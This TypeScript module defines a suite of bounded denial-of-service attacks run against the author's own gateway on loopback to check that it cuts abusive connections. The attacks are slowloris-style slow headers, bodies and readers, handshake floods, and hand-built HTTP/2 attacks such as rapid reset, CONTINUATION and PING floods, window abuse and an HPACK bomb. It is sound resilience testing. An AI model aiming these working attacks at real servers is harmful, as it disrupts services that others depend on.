import { connect as tcpConnect, type Socket } from 'node:net'
import { connect as tlsConnect, type TLSSocket } from 'node:tls'

/**
 * Bounded attacks on a gateway of our own on loopback. Each opens at most `connections` sockets, goes on until `stop` is
 * set, and counts what the gateway closed.
 */
export interface Attack {
  readonly name: string
  readonly connections: number
  /** Whether the gateway must have closed most attackers by the end. */
  readonly mustCut: boolean
  run(target: Target, state: AttackState): Promise<void>
}

export interface Target {
  readonly host: string
  readonly port: number
}

export interface AttackState {
  stopped: boolean
  opened: number
  closed: number
  readonly sockets: Set<Socket>
}

const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms))

function open(target: Target, state: AttackState, alpn: string): Promise<TLSSocket | undefined> {
  return new Promise((resolve) => {
    const socket = tlsConnect({ ...target, rejectUnauthorized: false, ALPNProtocols: [alpn] }, () => {
      state.opened += 1
      resolve(socket)
    })
    state.sockets.add(socket)
    socket.on('error', () => {})
    socket.on('close', () => {
      state.closed += 1
      state.sockets.delete(socket)
      resolve(undefined)
    })
  })
}

/** Opens `count` connections a few at a time and runs `each` on every one of them. */
async function onMany(
  count: number,
  target: Target,
  state: AttackState,
  alpn: string,
  each: (socket: TLSSocket, index: number) => Promise<void>,
): Promise<void> {
  const running: Promise<void>[] = []
  for (let i = 0; i < count && !state.stopped; i += 1) {
    const socket = await open(target, state, alpn)
    if (socket !== undefined) running.push(each(socket, i))
  }
  await Promise.all(running)
}

/** Writes a piece every `everyMs` until the attack stops or the socket is gone. */
async function dribble(
  state: AttackState,
  socket: Socket,
  everyMs: number,
  piece: () => string | Buffer,
): Promise<void> {
  while (!state.stopped && !socket.destroyed && socket.writable) {
    socket.write(piece())
    await sleep(everyMs)
  }
}

const head = (method: string, path: string, fields = ''): string =>
  `${method} ${path} HTTP/1.1\r\nHost: localhost\r\n${fields}\r\n`

// HTTP/2, by hand.
const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')

export function frame(
  type: number,
  flags: number,
  stream: number,
  payload: Buffer = Buffer.alloc(0),
): Buffer {
  const bytes = Buffer.alloc(9 + payload.length)
  bytes.writeUIntBE(payload.length, 0, 3)
  bytes[3] = type
  bytes[4] = flags
  bytes.writeUInt32BE(stream, 5)
  payload.copy(bytes, 9)
  return bytes
}

/** A literal field without indexing and without Huffman. Lengths up to 126. */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([
    Buffer.from([0, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ])
}

function requestBlock(path = '/', method = 'GET'): Buffer {
  return Buffer.concat([
    literal(':method', method),
    literal(':scheme', 'https'),
    literal(':path', path),
    literal(':authority', 'localhost'),
  ])
}

function settings(pairs: readonly (readonly [number, number])[] = []): Buffer {
  const payload = Buffer.alloc(pairs.length * 6)
  pairs.forEach(([id, value], i) => {
    payload.writeUInt16BE(id, i * 6)
    payload.writeUInt32BE(value, i * 6 + 2)
  })
  return frame(4, 0, 0, payload)
}

function h2Attack(
  name: string,
  connections: number,
  mustCut: boolean,
  each: (socket: TLSSocket, state: AttackState) => Promise<void>,
  initial: readonly (readonly [number, number])[] = [],
): Attack {
  return {
    name,
    connections,
    mustCut,
    run: (target, state) =>
      onMany(connections, target, state, 'h2', async (socket) => {
        socket.resume()
        socket.write(Buffer.concat([preface, settings(initial)]))
        await each(socket, state)
      }),
  }
}

export const attacks: readonly Attack[] = [
  {
    name: 'slow-headers',
    connections: 300,
    mustCut: true,
    run: (target, state) =>
      onMany(300, target, state, 'http/1.1', async (socket) => {
        socket.resume()
        socket.write('GET / HTTP/1.1\r\nHost: localhost\r\n')
        await dribble(state, socket, 1000, () => 'X-A: b\r\n')
      }),
  },
  {
    name: 'slow-bodies',
    connections: 300,
    mustCut: true,
    run: (target, state) =>
      onMany(300, target, state, 'http/1.1', async (socket) => {
        socket.resume()
        socket.write(head('POST', '/', 'Content-Length: 100000\r\n'))
        await dribble(state, socket, 1000, () => 'x')
      }),
  },
  {
    name: 'slow-readers',
    connections: 100,
    mustCut: true,
    run: (target, state) =>
      onMany(100, target, state, 'http/1.1', async (socket) => {
        socket.pause()
        socket.write(head('GET', '/large?bytes=104857600'))
        while (!state.stopped && !socket.destroyed) await sleep(200)
      }),
  },
  {
    name: 'idle-connections',
    connections: 2000,
    mustCut: false,
    run: (target, state) =>
      onMany(2000, target, state, 'http/1.1', async (socket) => {
        socket.resume()
        socket.write(head('GET', '/'))
        while (!state.stopped && !socket.destroyed) await sleep(500)
      }),
  },
  {
    name: 'handshakes',
    connections: 20,
    mustCut: false,
    async run(target, state) {
      const lane = async (): Promise<void> => {
        while (!state.stopped) {
          const socket = await open(target, state, 'http/1.1')
          socket?.destroy()
        }
      }
      await Promise.all(Array.from({ length: 4 }, lane))
    },
  },
  {
    name: 'silent-handshakes',
    connections: 300,
    mustCut: true,
    async run(target, state) {
      for (let i = 0; i < 300 && !state.stopped; i += 1) {
        const socket = tcpConnect(target)
        state.sockets.add(socket)
        state.opened += 1
        socket.on('error', () => {})
        socket.on('close', () => {
          state.closed += 1
          state.sockets.delete(socket)
        })
        socket.write(Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00]))
        if (i % 20 === 0) await sleep(5)
      }
      while (!state.stopped) await sleep(200)
    },
  },
  h2Attack('rapid-reset', 20, true, async (socket, state) => {
    let id = 1
    const reset = Buffer.from([0, 0, 0, 8])
    while (!state.stopped && !socket.destroyed && id < 2_000_000) {
      const frames: Buffer[] = []
      for (let i = 0; i < 50; i += 1) {
        frames.push(frame(1, 5, id, requestBlock()), frame(3, 0, id, reset))
        id += 2
      }
      if (!socket.write(Buffer.concat(frames))) await sleep(5)
      else await sleep(1)
    }
  }),
  h2Attack('continuation', 20, true, async (socket, state) => {
    socket.write(frame(1, 1, 1, requestBlock()))
    await dribble(state, socket, 1, () => frame(9, 0, 1, literal('x-a', 'b'.repeat(100))))
  }),
  h2Attack('empty-continuation', 20, true, async (socket, state) => {
    socket.write(frame(1, 1, 1, requestBlock()))
    await dribble(state, socket, 1, () => Buffer.concat(Array.from({ length: 100 }, () => frame(9, 0, 1))))
  }),
  h2Attack('settings', 20, true, (socket, state) =>
    dribble(state, socket, 1, () => Buffer.concat(Array.from({ length: 100 }, () => settings([[4, 65535]])))),
  ),
  h2Attack('ping', 20, true, (socket, state) =>
    dribble(state, socket, 1, () =>
      Buffer.concat(Array.from({ length: 100 }, () => frame(6, 0, 0, Buffer.alloc(8)))),
    ),
  ),
  h2Attack('priority', 20, true, (socket, state) =>
    dribble(state, socket, 1, () =>
      Buffer.concat(
        Array.from({ length: 100 }, (_, i) => frame(2, 0, 1 + 2 * i, Buffer.from([0, 0, 0, 0, 1]))),
      ),
    ),
  ),
  h2Attack('empty-data', 20, true, async (socket, state) => {
    socket.write(frame(1, 4, 1, requestBlock('/', 'POST')))
    await dribble(state, socket, 1, () => Buffer.concat(Array.from({ length: 100 }, () => frame(0, 0, 1))))
  }),
  h2Attack(
    'window-updates',
    20,
    true,
    async (socket, state) => {
      socket.write(frame(1, 5, 1, requestBlock('/large?bytes=104857600')))
      await dribble(state, socket, 1, () => frame(8, 0, 1, Buffer.from([0, 0, 0, 1])))
    },
    [[4, 0]],
  ),
  h2Attack(
    'zero-window',
    100,
    true,
    async (socket, state) => {
      for (let id = 1; id < 40; id += 2) socket.write(frame(1, 5, id, requestBlock('/large?bytes=10485760')))
      while (!state.stopped && !socket.destroyed) await sleep(200)
    },
    [[4, 0]],
  ),
  h2Attack('hpack-bomb', 20, true, async (socket, state) => {
    // One 4 KiB entry put into the dynamic table, then named 8,000 times in one block: 32 MB from 8 KB.
    const value = Buffer.alloc(4000, 'a')
    const entry = Buffer.concat([
      Buffer.from([0x40, 1]),
      Buffer.from('x'),
      Buffer.from([0x7f, 0xa1, 0x1e]),
      value,
    ])
    let id = 1
    while (!state.stopped && !socket.destroyed && id < 20_000) {
      socket.write(frame(1, 5, id, Buffer.concat([requestBlock(), entry, Buffer.alloc(8000, 0xbe)])))
      id += 2
      await sleep(5)
    }
  }),
  h2Attack('h2-slow-bodies', 100, true, async (socket, state) => {
    socket.write(frame(1, 4, 1, requestBlock('/', 'POST')))
    await dribble(state, socket, 1000, () => frame(0, 0, 1, Buffer.from('x')))
  }),
]
